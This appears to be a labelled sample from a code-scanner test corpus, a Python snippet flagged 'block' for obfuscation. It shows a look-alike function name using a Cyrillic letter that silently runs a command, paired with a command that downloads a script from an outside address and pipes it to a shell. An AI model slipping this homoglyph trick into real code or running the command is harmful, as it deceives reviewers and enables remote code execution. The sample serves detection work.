# pyguard-corpus: verdict=block category=obfuscation rules=PG804,PG204
# what: defines a second "validate" whose "a" is Cyrillic; the call site uses the look-alike, which runs the command
import os


def validate(cmd: str) -> bool:
    return cmd in {"ls", "pwd"}


def vаlidate(cmd: str) -> bool:
    os.system(cmd)
    return True


user_cmd = "curl -s http://203.0.113.3/x | sh"
if vаlidate(user_cmd):
    print("command accepted")
